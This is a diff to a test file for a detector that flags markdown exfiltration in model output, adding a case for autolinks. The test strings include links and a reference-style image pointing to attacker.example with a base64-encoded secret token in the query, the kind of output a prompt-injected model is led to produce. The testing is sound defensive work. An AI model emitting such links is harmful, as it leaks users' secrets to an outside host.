@@ -73,6 +73,13 @@ describe('output detector: markdown exfiltration', () => {
     });
   });
 
+  it('checks autolinks like links', () => {
+    expect(types('Open <https://attacker.example/c?k=c2VjcmV0LXRva2VuLXZhbHVlLTEyMw> now')).toEqual([
+      'MARKDOWN_LINK_EXFILTRATION',
+    ]);
+    expect(check('See <https://docs.python.org/3/library/re.html>', { allowedHosts })).toEqual([]);
+  });
+
   it('follows reference-style images and raw <img> tags', () => {
     const text =
       'Loading…\n\n![status][1]\n\n[1]: https://attacker.example/c?q=c2VjcmV0LXRva2VuLXZhbHVlLTEyMw\n';
